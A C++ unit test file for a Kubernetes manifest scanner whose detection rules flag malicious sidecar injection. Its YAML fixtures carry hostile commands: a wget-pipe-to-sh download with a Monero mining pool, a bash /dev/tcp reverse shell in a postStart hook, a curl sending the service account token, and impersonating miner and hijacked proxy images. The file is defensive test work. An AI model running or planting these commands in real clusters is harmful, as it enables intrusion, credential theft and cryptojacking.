// Sidecar injection seen in manifests: the scenarios of DESIGN.md as
// before/after pairs, and the quiet cases.
#include <filesystem>

#include <gtest/gtest.h>

#include "doc/source.h"
#include "support/test_support.h"

namespace kg {
namespace {

using testing::findings_of;

constexpr std::string_view kBefore = R"(
apiVersion: apps/v1
kind: Deployment
metadata: {name: web, namespace: shop}
spec:
  template:
    metadata: {labels: {app: web}}
    spec:
      containers:
        - name: web
          image: registry.example.com/web:1.0
          resources: {limits: {cpu: 100m, memory: 64Mi}}
        - name: fluent-bit
          image: cr.fluentbit.io/fluent/fluent-bit:3.0
          resources: {limits: {cpu: 100m, memory: 64Mi}}
)";

// S1: the kubectl loop sets the last container of a multi-container pod to a miner.
constexpr std::string_view kS1SwappedLast = R"(
apiVersion: apps/v1
kind: Deployment
metadata: {name: web, namespace: shop}
spec:
  template:
    metadata: {labels: {app: web}}
    spec:
      containers:
        - name: web
          image: registry.example.com/web:1.0
          resources: {limits: {cpu: 100m, memory: 64Mi}}
        - name: fluent-bit
          image: docker.io/xmrig/xmrig:6.21
          resources: {limits: {cpu: 100m, memory: 64Mi}}
)";

// S1 variant: a container added to the pod template.
constexpr std::string_view kS1Added = R"(
apiVersion: apps/v1
kind: Deployment
metadata: {name: web, namespace: shop}
spec:
  template:
    metadata: {labels: {app: web}}
    spec:
      containers:
        - name: web
          image: registry.example.com/web:1.0
          resources: {limits: {cpu: 100m, memory: 64Mi}}
        - name: fluent-bit
          image: cr.fluentbit.io/fluent/fluent-bit:3.0
          resources: {limits: {cpu: 100m, memory: 64Mi}}
        - name: metrics
          image: alpine:3.19
          command: ["sh", "-c", "wget -qO- http://203.0.113.9/x | sh; ./x -o stratum+tcp://pool.supportxmr.com:443"]
)";

TEST(SidecarScenarios, QuietBeforeTheAttack) {
  for (auto rule : {"KG-SC-001", "KG-SC-002", "KG-SC-005", "KG-SC-006", "KG-SC-007", "KG-SC-008"}) {
    EXPECT_TRUE(findings_of(rule, kBefore).empty()) << rule;
  }
}

TEST(SidecarScenarios, S1SwappedImageIsAnImpersonatingMiner) {
  auto impersonation = findings_of("KG-SC-002", kS1SwappedLast);
  ASSERT_EQ(impersonation.size(), 1u);
  EXPECT_EQ(impersonation[0].container, "fluent-bit");
  EXPECT_EQ(impersonation[0].path, "spec.template.spec.containers[1].image");
  EXPECT_EQ(impersonation[0].severity, rules::Severity::Critical);
  auto miner = findings_of("KG-SC-006", kS1SwappedLast);
  ASSERT_EQ(miner.size(), 1u);
  EXPECT_EQ(miner[0].container, "fluent-bit");
  EXPECT_EQ(miner[0].container_role, "extra");
}

TEST(SidecarScenarios, S1AddedContainerIsUnapprovedAndMines) {
  auto unapproved = findings_of("KG-SC-001", kS1Added);
  ASSERT_EQ(unapproved.size(), 1u);
  EXPECT_EQ(unapproved[0].container, "metrics");
  EXPECT_EQ(unapproved[0].container_role, "extra");
  EXPECT_EQ(unapproved[0].mark.line, 16u);
  auto miner = findings_of("KG-SC-006", kS1Added);
  ASSERT_EQ(miner.size(), 1u);
  EXPECT_NE(miner[0].message.find("stratum+tcp://"), std::string::npos);
  EXPECT_EQ(miner[0].severity, rules::Severity::Critical);
  // The approved fluent-bit sidecar is not reported as unapproved.
  for (const auto& f : unapproved) EXPECT_NE(f.container, "fluent-bit");
}

TEST(SidecarScenarios, S2CurlWithTheServiceAccountToken) {
  auto f = findings_of("KG-SC-008", R"(
apiVersion: v1
kind: Pod
metadata: {name: p, namespace: shop}
spec:
  containers:
    - name: app
      image: curlimages/curl:8.5.0
      command: ["sh", "-c"]
      args: ["curl -k -H \"Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\" https://$KUBERNETES_SERVICE_HOST/api/v1/namespaces/shop/pods"]
)");
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].container, "app");
  EXPECT_TRUE(findings_of("KG-SC-008", kBefore).empty());
}

TEST(SidecarScenarios, S3EphemeralContainerInALivePod) {
  constexpr std::string_view kLivePod = R"(
apiVersion: v1
kind: Pod
metadata: {name: web-7d4b9c-x2kq, namespace: shop}
spec:
  containers:
    - name: web
      image: registry.example.com/web:1.0
  ephemeralContainers:
    - name: debugger-abcde
      image: busybox:1.36
      targetContainerName: web
      command: ["sh"]
)";
  auto f = findings_of("KG-SC-009", kLivePod);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].container, "debugger-abcde");
  EXPECT_EQ(f[0].container_role, "ephemeral");
  EXPECT_NE(f[0].message.find("targets container 'web'"), std::string::npos);
  EXPECT_TRUE(findings_of("KG-SC-009", kBefore).empty());
}

// S5: the approved istio-proxy moves to another repository.
TEST(SidecarScenarios, S5HijackedIstioProxyIsImpersonation) {
  constexpr std::string_view kHijacked = R"(
apiVersion: v1
kind: Pod
metadata:
  name: reviews-1
  namespace: shop
  annotations:
    sidecar.istio.io/status: '{"initContainers":["istio-init"],"containers":["istio-proxy"]}'
spec:
  initContainers:
    - name: istio-init
      image: docker.io/istio/proxyv2:1.22.0
  containers:
    - name: reviews
      image: registry.example.com/reviews:1
    - name: istio-proxy
      image: ghcr.io/attacker/proxyv2:1.22.0
)";
  auto f = findings_of("KG-SC-002", kHijacked);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].container, "istio-proxy");
  EXPECT_NE(f[0].message.find("ghcr.io/attacker/proxyv2"), std::string::npos);
  // Not double-reported as an unknown extra container.
  EXPECT_TRUE(findings_of("KG-SC-001", kHijacked).empty());
}

TEST(SidecarRules, StatusAnnotationMustListTheInjectedContainers) {
  constexpr std::string_view kMismatch = R"(
apiVersion: v1
kind: Pod
metadata:
  name: p
  annotations:
    sidecar.istio.io/status: '{"initContainers":["istio-init"],"containers":["istio-proxy"]}'
spec:
  containers:
    - name: app
      image: registry.example.com/app:1
    - name: istio-proxy
      image: docker.io/istio/proxyv2:1.22.0
)";
  auto f = findings_of("KG-SC-005", kMismatch);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_NE(f[0].message.find("istio-init"), std::string::npos);
  EXPECT_EQ(f[0].path, "metadata.annotations.sidecar.istio.io/status");
}

TEST(SidecarRules, ProxyWithoutItsInjectorsAnnotationIsAStatusMismatch) {
  constexpr std::string_view kNoAnnotation = R"(
apiVersion: v1
kind: Pod
metadata: {name: p}
spec:
  containers:
    - name: app
      image: registry.example.com/app:1
    - name: linkerd-proxy
      image: cr.l5d.io/linkerd/proxy:stable-2.14.10
)";
  auto f = findings_of("KG-SC-005", kNoAnnotation);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].container, "linkerd-proxy");
  EXPECT_TRUE(findings_of("KG-SC-001", kNoAnnotation).empty());
}

TEST(SidecarRules, SidecarWithoutLimitsAndMorePrivilegedThanMain) {
  constexpr std::string_view kPod = R"(
apiVersion: v1
kind: Pod
metadata: {name: p}
spec:
  volumes:
    - {name: host, hostPath: {path: /var/lib}}
  containers:
    - name: app
      image: registry.example.com/app:1
      securityContext: {runAsNonRoot: true, runAsUser: 1000}
      resources: {limits: {cpu: 1, memory: 1Gi}}
    - name: helper
      image: registry.example.com/helper:1
      securityContext:
        runAsUser: 0
        capabilities: {add: [SYS_ADMIN]}
      volumeMounts:
        - {name: host, mountPath: /host}
)";
  auto limits = findings_of("KG-SC-003", kPod);
  ASSERT_EQ(limits.size(), 1u);
  EXPECT_EQ(limits[0].container, "helper");
  auto privileged = findings_of("KG-SC-004", kPod);
  ASSERT_EQ(privileged.size(), 1u);
  EXPECT_NE(privileged[0].message.find("runs as UID 0"), std::string::npos);
  EXPECT_NE(privileged[0].message.find("SYS_ADMIN"), std::string::npos);
  EXPECT_NE(privileged[0].message.find("/var/lib"), std::string::npos);
  EXPECT_TRUE(findings_of("KG-SC-004", kBefore).empty());
  EXPECT_TRUE(findings_of("KG-SC-003", kBefore).empty());
}

TEST(SidecarRules, ReverseShellInAPostStartHook) {
  auto f = findings_of("KG-SC-007", R"(
apiVersion: v1
kind: Pod
metadata: {name: p}
spec:
  containers:
    - name: app
      image: registry.example.com/app:1
      lifecycle:
        postStart:
          exec:
            command: ["/bin/bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"]
)");
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].path, "spec.containers[0].lifecycle.postStart.exec.command");
  EXPECT_TRUE(findings_of("KG-SC-007", kBefore).empty());
}

TEST(SidecarRules, MainContainerChosenByAnnotation) {
  auto f = testing::scan_text(R"(
apiVersion: v1
kind: Pod
metadata:
  name: p
  annotations: {kubectl.kubernetes.io/default-container: app}
spec:
  containers:
    - name: helper
      image: registry.example.com/helper:1
    - name: app
      image: registry.example.com/app:1
)")
               .findings;
  bool helper_extra = false;
  for (const auto& finding : f) {
    if (finding.rule_id == "KG-SC-001") helper_extra = finding.container == "helper";
  }
  EXPECT_TRUE(helper_extra);
}

TEST(SidecarRules, ConfiguredProfileApprovesATeamSidecar) {
  auto result = engine::parse_config(R"(
approvedSidecars:
  - name: team-agent
    containerNames: [metrics]
    repositories: ["docker.io/library/alpine"]
)",
                                     "cfg.yaml", testing::catalog());
  ASSERT_TRUE(result.errors.empty());
  constexpr std::string_view kPod = R"(
apiVersion: v1
kind: Pod
metadata: {name: p}
spec:
  containers:
    - {name: app, image: registry.example.com/app:1}
    - {name: metrics, image: alpine:3.19}
)";
  EXPECT_EQ(findings_of("KG-SC-001", kPod).size(), 1u);
  EXPECT_TRUE(findings_of("KG-SC-001", kPod, result.config).empty());
}

TEST(SidecarRules, ConfigProfileErrorsNameTheField) {
  auto result =
      engine::parse_config("approvedSidecars:\n  - name: x\n    images: [a]\n", "cfg.yaml", testing::catalog());
  ASSERT_FALSE(result.errors.empty());
  EXPECT_EQ(result.errors[0].mark.line, 3u);
  EXPECT_NE(result.errors[0].message.find("approvedSidecars.images"), std::string::npos);
}

// The legitimate injected corpora stay quiet: every istio- and linkerd-injected
// workload is recognised by the built-in profiles.
TEST(SidecarCorpus, InjectedWorkloadsAreRecognised) {
  // linkerd's *.input.yml files are what the injector is given, not what it
  // produced; the injected workloads are its golden outputs and injected_*.
  std::vector<std::string> inputs = {testing::corpus("manifests/istio/injected-sidecars")};
  for (const auto& entry :
       std::filesystem::recursive_directory_iterator(testing::corpus("manifests/linkerd2/inject"))) {
    std::string name = entry.path().filename().string();
    if (name.find(".golden.") != std::string::npos || name.rfind("injected_", 0) == 0) {
      inputs.push_back(entry.path().string());
    }
  }
  engine::Config config;
  auto result = engine::scan(engine::ScanRequest{inputs, 1}, testing::catalog(), config);
  size_t injected = 0;
  for (const auto& f : result.findings) {
    if (f.rule_id == "KG-SC-001" || f.rule_id == "KG-SC-002" || f.rule_id == "KG-SC-005") {
      ADD_FAILURE() << f.rule_id << " " << f.file << ":" << f.mark.line << " " << f.message;
    }
    if (f.container_role == "injected-sidecar") ++injected;
  }
  // Real weaknesses of approved sidecars are still reported (with their role).
  EXPECT_GT(injected, 100u);
  EXPECT_GT(result.summary.objects, 150u);
}

}  // namespace
}  // namespace kg
